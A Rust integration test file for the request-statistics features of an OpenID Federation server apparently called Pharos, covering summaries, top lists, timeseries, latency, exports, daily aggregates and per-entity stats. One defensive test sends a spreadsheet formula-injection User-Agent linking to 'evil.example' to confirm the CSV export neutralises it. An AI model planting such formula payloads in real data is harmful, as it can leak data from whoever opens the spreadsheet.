//! Request statistics end to end (issue 17, acceptance 1): requests of known shape on the
//! public port, one flush, and every statistics query of the Admin API reports exactly them.

use std::sync::Arc;

use crate::fetch_list::enable;
use crate::support::{Pharos, TestDb, backends, mmdb};
use pharos_shared::config::{Duration, Settings};
use pharos_shared::time::ManualClock;
use reqwest::Method;
use serde_json::{Value, json};

/// 2026-03-10T12:00:00Z.
pub const NOW: i64 = 1_773_144_000;

/// Statistics on, flushed only when the test says (or at shutdown), the loopback peer trusted
/// as a proxy, and a GeoIP database knowing two networks.
pub fn stats_on(db: &TestDb) -> impl FnOnce(&mut Settings) + use<> {
    let geo = db.dir.path().join("countries.mmdb");
    std::fs::write(
        &geo,
        mmdb::country_db(&[([81, 2, 69, 0], 24, "GB"), ([198, 51, 100, 0], 24, "SE")]),
    )
    .unwrap();
    move |s: &mut Settings| {
        s.stats.enabled = true;
        s.stats.buffer.flush_interval = Duration::from_secs(3600);
        s.server.trusted_proxies = vec!["127.0.0.1".into()];
        s.stats.capture.geo_ip.enabled = true;
        s.stats.capture.geo_ip.database_path = geo.display().to_string();
    }
}

pub async fn send(p: &Pharos, path: &str, ua: &str, from: Option<&str>) -> u16 {
    let mut r = p.client.get(p.main_url(path)).header("user-agent", ua);
    if let Some(ip) = from {
        r = r.header("x-forwarded-for", ip);
    }
    r.send().await.unwrap().status().as_u16()
}

/// Three Entity Configurations from Britain, two fetches of an unknown subordinate from
/// Sweden, one request to an unregistered path from the proxy itself.
pub async fn known_traffic(p: &Pharos) {
    for _ in 0..3 {
        let s = send(
            p,
            "/.well-known/openid-federation",
            "alpha/1",
            Some("81.2.69.160"),
        )
        .await;
        assert_eq!(s, 200);
    }
    for _ in 0..2 {
        let s = send(
            p,
            "/fetch?sub=https%3A%2F%2Funknown.example",
            "beta/2",
            Some("198.51.100.7"),
        )
        .await;
        assert_eq!(s, 404);
    }
    assert_eq!(send(p, "/nothing-here", "gamma/3", None).await, 404);
}

pub async fn flush(p: &Pharos) -> u64 {
    p.app.as_ref().unwrap().stats.flush().await
}

/// The stored durations (µs), sorted, optionally of one endpoint.
async fn durations(db: &TestDb, endpoint: Option<&str>) -> Vec<i64> {
    let pool = db.pool().await;
    let mut v = Vec::new();
    pharos_controlplane::db::stats::for_each_batch(&pool, i64::MIN, i64::MAX, |b| {
        let selected = b
            .iter()
            .filter(|r| endpoint.is_none_or(|e| r.endpoint == e));
        v.extend(selected.map(|r| r.duration_us));
        Ok(())
    })
    .await
    .unwrap();
    v.sort();
    v
}

/// Nearest-rank percentile in ms.
fn rank(v: &[i64], p: f64) -> f64 {
    let k = ((p * v.len() as f64).ceil() as usize).clamp(1, v.len());
    v[k - 1] as f64 / 1000.0
}

fn avg(v: &[i64]) -> f64 {
    v.iter().sum::<i64>() as f64 / 1000.0 / v.len() as f64
}

fn close(a: &Value, b: f64) -> bool {
    (a.as_f64().unwrap() - b).abs() < 1e-6
}

async fn get(p: &Pharos, path: &str) -> Value {
    let (s, v) = p.admin(Method::GET, path, None).await;
    assert_eq!(s, 200, "{path}: {v}");
    v
}

#[tokio::test]
async fn every_query_reports_exactly_the_requests_sent() {
    for b in backends() {
        let db = TestDb::new(b).await;
        let clock = ManualClock::new(NOW);
        let p = Pharos::start_with(&db, stats_on(&db), clock.clone()).await;
        enable(&p, "fetch", "/fetch", json!({})).await;
        known_traffic(&p).await;
        assert_eq!(flush(&p).await, 6, "{b:?}");
        let all = durations(&db, None).await;

        let v = get(&p, "/stats/summary").await;
        assert_eq!(v["from"], "2026-03-09T12:00:00Z");
        assert_eq!(v["to"], "2026-03-10T12:00:00Z");
        let s = &v["summary"];
        assert_eq!(s["total_requests"], 6, "{b:?} {v}");
        assert_eq!(s["total_errors"], 3);
        assert_eq!(s["error_rate"], 0.5);
        assert_eq!(s["unique_clients"], 3);
        assert_eq!(s["unique_user_agents"], 3);
        assert_eq!(s["requests_by_status"], json!({"200": 3, "404": 3}));
        assert_eq!(
            s["requests_by_endpoint"],
            json!({".well-known/openid-federation": 3, "fetch": 2, "unmatched": 1})
        );
        assert!(close(&s["p50_latency_ms"], rank(&all, 0.5)), "{v}");
        assert!(close(&s["p95_latency_ms"], rank(&all, 0.95)), "{v}");
        assert!(close(&s["p99_latency_ms"], rank(&all, 0.99)), "{v}");
        assert!(close(&s["avg_latency_ms"], avg(&all)), "{v}");

        let counts = |pairs: &[(&str, i64)]| -> Value {
            pairs
                .iter()
                .map(|(v, c)| json!({"value": v, "count": c}))
                .collect()
        };
        let v = get(&p, "/stats/top/endpoints").await;
        assert_eq!(v["limit"], 10);
        let ec = ".well-known/openid-federation";
        assert_eq!(
            v["endpoints"],
            counts(&[(ec, 3), ("fetch", 2), ("unmatched", 1)])
        );
        let v = get(&p, "/stats/top/endpoints?limit=1").await;
        assert_eq!(v["endpoints"], counts(&[(ec, 3)]));
        let v = get(&p, "/stats/top/user-agents").await;
        assert_eq!(
            v["user_agents"],
            counts(&[("alpha/1", 3), ("beta/2", 2), ("gamma/3", 1)])
        );
        let v = get(&p, "/stats/top/clients").await;
        let clients = [("81.2.69.160", 3), ("198.51.100.7", 2), ("127.0.0.1", 1)];
        assert_eq!(v["clients"], counts(&clients));
        let v = get(&p, "/stats/top/countries").await;
        assert_eq!(v["countries"], counts(&[("GB", 3), ("SE", 2)]));
        let v = get(&p, "/stats/top/params?endpoint=fetch").await;
        assert_eq!(v["endpoint"], "fetch");
        assert_eq!(
            v["params"],
            counts(&[(r#"{"sub":"https://unknown.example"}"#, 2)])
        );

        let v = get(&p, "/stats/timeseries?interval=hour").await;
        assert_eq!(v["interval"], "hour");
        assert_eq!(v["endpoint"], Value::Null);
        // Every hour of the range is a bucket, the quiet ones as zeros.
        let all_hours = v["timeseries"].as_array().unwrap();
        assert!(all_hours.len() >= 24, "{v}");
        let ts: Vec<&Value> = all_hours
            .iter()
            .filter(|p| p["request_count"] != 0)
            .collect();
        assert_eq!(ts.len(), 1, "{v}");
        assert!(
            all_hours
                .iter()
                .all(|p| p["request_count"] != 0 || p["error_count"] == 0)
        );
        assert_eq!(ts[0]["timestamp"], "2026-03-10T12:00:00Z");
        assert_eq!(
            (ts[0]["request_count"].clone(), ts[0]["error_count"].clone()),
            (json!(6), json!(3))
        );
        assert!(close(&ts[0]["avg_latency_ms"], avg(&all)));
        let v = get(&p, "/stats/timeseries?interval=month&endpoint=fetch").await;
        let last = v["timeseries"].as_array().unwrap().last().unwrap();
        assert_eq!(last["timestamp"], "2026-03-01T00:00:00Z");
        assert_eq!(last["request_count"], 2);

        let fetches = durations(&db, Some("fetch")).await;
        let v = get(&p, "/stats/latency?endpoint=fetch").await;
        let l = &v["latency"];
        for (k, q) in [
            ("p50_ms", 0.5),
            ("p75_ms", 0.75),
            ("p90_ms", 0.9),
            ("p95_ms", 0.95),
            ("p99_ms", 0.99),
        ] {
            assert!(close(&l[k], rank(&fetches, q)), "{k}: {v}");
        }
        assert!(close(&l["min_ms"], fetches[0] as f64 / 1000.0));
        assert!(close(&l["max_ms"], fetches[1] as f64 / 1000.0));
        assert!(close(&l["avg_ms"], avg(&fetches)));

        // Export: streamed CSV and newline-delimited JSON of the same records.
        let r = p
            .client
            .get(p.url("/api/v1/admin/stats/export"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200);
        assert!(
            r.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/csv")
        );
        assert!(
            r.headers()["content-disposition"]
                .to_str()
                .unwrap()
                .contains("stats.csv")
        );
        let csv = r.text().await.unwrap();
        let lines: Vec<&str> = csv.lines().collect();
        assert_eq!(lines.len(), 7, "{csv}");
        assert!(lines[0].starts_with("timestamp,endpoint,method,status_code,duration_ms"));
        let fetch_lines: Vec<&&str> = lines
            .iter()
            .filter(|l| l.contains(",fetch,GET,404,"))
            .collect();
        assert_eq!(fetch_lines.len(), 2, "{csv}");
        assert!(
            fetch_lines[0].contains(r#""{""sub"":""https://unknown.example""}""#),
            "{csv}"
        );
        assert!(fetch_lines[0].contains(",198.51.100.7,SE,beta/2,"), "{csv}");
        let r = p
            .client
            .get(p.url("/api/v1/admin/stats/export?format=json"))
            .send()
            .await
            .unwrap();
        let text = r.text().await.unwrap();
        let rows: Vec<Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(rows.len(), 6);
        assert_eq!(rows.iter().filter(|r| r["country_code"] == "GB").count(), 3);
        assert!(
            rows.iter()
                .all(|r| r["timestamp"] == "2026-03-10T12:00:00Z")
        );

        // Daily: the day's aggregates after the 02:00 UTC run.
        let agg = p.app.as_ref().unwrap().stats.aggregator.clone().unwrap();
        agg.tick(NOW).await.unwrap();
        clock.set(NOW + 14 * 3600);
        agg.tick(NOW + 14 * 3600).await.unwrap();
        let v = get(&p, "/stats/daily?from=2026-03-10&to=2026-03-10").await;
        let daily = v["daily"].as_array().unwrap();
        assert_eq!(daily.len(), 3, "{v}");
        let ec_day = daily.iter().find(|d| d["endpoint"] == ec).unwrap();
        assert_eq!(ec_day["date"], "2026-03-10");
        assert_eq!(
            (
                ec_day["status_code"].clone(),
                ec_day["request_count"].clone()
            ),
            (json!(200), json!(3))
        );
        assert_eq!(ec_day["error_count"], 0);
        assert_eq!(ec_day["top_countries"], counts(&[("GB", 3)]));
        assert_eq!(ec_day["top_user_agents"], counts(&[("alpha/1", 3)]));
        let ecs = durations(&db, Some(ec)).await;
        assert!(close(&ec_day["duration_p50_ms"], rank(&ecs, 0.5)));
        assert!(close(&ec_day["duration_max_ms"], ecs[2] as f64 / 1000.0));
        let f = daily.iter().find(|d| d["endpoint"] == "fetch").unwrap();
        assert_eq!(
            (f["request_count"].clone(), f["error_count"].clone()),
            (json!(2), json!(2))
        );
        assert_eq!(
            f["top_params"],
            counts(&[(r#"{"sub":"https://unknown.example"}"#, 2)])
        );
        p.stop().await;
    }
}

/// A User-Agent is whatever a stranger sends: in the CSV export a spreadsheet must read it as
/// text, not as a formula (issue 31).
#[tokio::test]
async fn a_formula_in_a_user_agent_is_exported_as_text() {
    let db = TestDb::new(crate::support::Backend::Sqlite).await;
    let p = Pharos::start_with(&db, stats_on(&db), ManualClock::new(NOW)).await;
    let ua = r#"=HYPERLINK("https://evil.example/?leak","open me")"#;
    let s = send(&p, "/.well-known/openid-federation", ua, None).await;
    assert_eq!(s, 200);
    assert_eq!(
        send(&p, "/.well-known/openid-federation", "@SUM(1)", None).await,
        200
    );
    assert_eq!(flush(&p).await, 2);
    let r = p
        .client
        .get(p.url("/api/v1/admin/stats/export"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let csv = r.text().await.unwrap();
    assert!(
        csv.contains(r#","'=HYPERLINK(""https://evil.example/?leak"",""open me"")","#),
        "{csv}"
    );
    assert!(csv.contains(",'@SUM(1),"), "{csv}");
    // No cell of any line starts a formula.
    for line in csv.lines() {
        for cell in line.split(',') {
            let cell = cell.trim_start_matches('"');
            assert!(!cell.starts_with(['=', '+', '@']), "{line}");
        }
    }
    // The same rule in the top list's CSV of the command line is covered by `csv_field`.
    p.stop().await;
}

#[tokio::test]
async fn bad_parameters_are_refused_and_named() {
    let db = TestDb::new(crate::support::Backend::Sqlite).await;
    let p = Pharos::start_with(
        &db,
        stats_on(&db),
        Arc::new(pharos_shared::time::SystemClock),
    )
    .await;
    for (path, name) in [
        ("/stats/summary?limit=0", "limit"),
        ("/stats/top/clients?limit=101", "limit"),
        ("/stats/timeseries?interval=year", "interval"),
        ("/stats/summary?from=yesterday", "from"),
        ("/stats/latency?to=2026-02-30", "to"),
        ("/stats/summary?from=2026-03-02&to=2026-03-01", "from"),
        ("/stats/daily?colour=red", "colour"),
        ("/stats/export?format=xml", "format"),
    ] {
        let (s, v) = p.admin(Method::GET, path, None).await;
        assert_eq!(s, 400, "{path}: {v}");
        assert_eq!(v["error"], "invalid_request");
        assert!(
            v["error_description"].as_str().unwrap().starts_with(name),
            "{path}: {v}"
        );
    }
    let (s, v) = p.admin(Method::GET, "/stats/top/nope", None).await;
    assert_eq!(s, 404, "{v}");
    p.stop().await;
}

/// Issue 38: requests answered by a hosted entity are its statistics, not the default
/// entity's: summaries, exports and daily aggregates under `/entities/{n}/stats/…` count them,
/// the unprefixed ones do not.
#[tokio::test]
async fn each_hosted_entity_reports_the_requests_it_answered() {
    for b in backends() {
        let db = TestDb::new(b).await;
        let clock = ManualClock::new(NOW);
        let p = Pharos::start_with(&db, stats_on(&db), clock.clone()).await;
        let edu = format!("{}/edu", p.entity_id());
        let (s, v) = p
            .admin(Method::POST, "/entities", Some(json!({"entity_id": edu})))
            .await;
        assert_eq!(s, 201, "{v}");
        let n = v["id"].as_i64().unwrap();
        known_traffic(&p).await;
        for _ in 0..4 {
            let s = send(&p, "/edu/.well-known/openid-federation", "delta/4", None).await;
            assert_eq!(s, 200);
        }
        assert_eq!(flush(&p).await, 10, "{b:?}");
        let ours = get(&p, "/stats/summary").await;
        assert_eq!(ours["summary"]["total_requests"], 6, "{b:?} {ours}");
        let theirs = get(&p, &format!("/entities/{n}/stats/summary")).await;
        assert_eq!(theirs["summary"]["total_requests"], 4, "{b:?} {theirs}");
        assert_eq!(
            theirs["summary"]["requests_by_endpoint"],
            json!({"edu/.well-known/openid-federation": 4})
        );
        let (s, export) = p
            .admin(
                Method::GET,
                &format!("/entities/{n}/stats/export?format=json"),
                None,
            )
            .await;
        assert_eq!(s, 200);
        let text = export
            .as_str()
            .map(str::to_owned)
            .unwrap_or(export.to_string());
        assert_eq!(text.lines().count(), 4, "{text}");
        // The daily aggregates: one pass files each entity's rows under it.
        let agg = p.app.as_ref().unwrap().stats.aggregator.clone().unwrap();
        clock.set(NOW + 14 * 3600);
        agg.tick(NOW + 14 * 3600).await.unwrap();
        let q = "/stats/daily?from=2026-03-10&to=2026-03-10";
        let ours = get(&p, q).await;
        // The configuration and the unmatched paths (no fetch endpoint here).
        assert_eq!(ours["daily"].as_array().map(Vec::len), Some(2), "{ours}");
        let theirs = get(&p, &format!("/entities/{n}{q}")).await;
        let daily = theirs["daily"].as_array().unwrap();
        assert_eq!(daily.len(), 1, "{theirs}");
        assert_eq!(daily[0]["request_count"], 4);
        p.stop().await;
    }
}
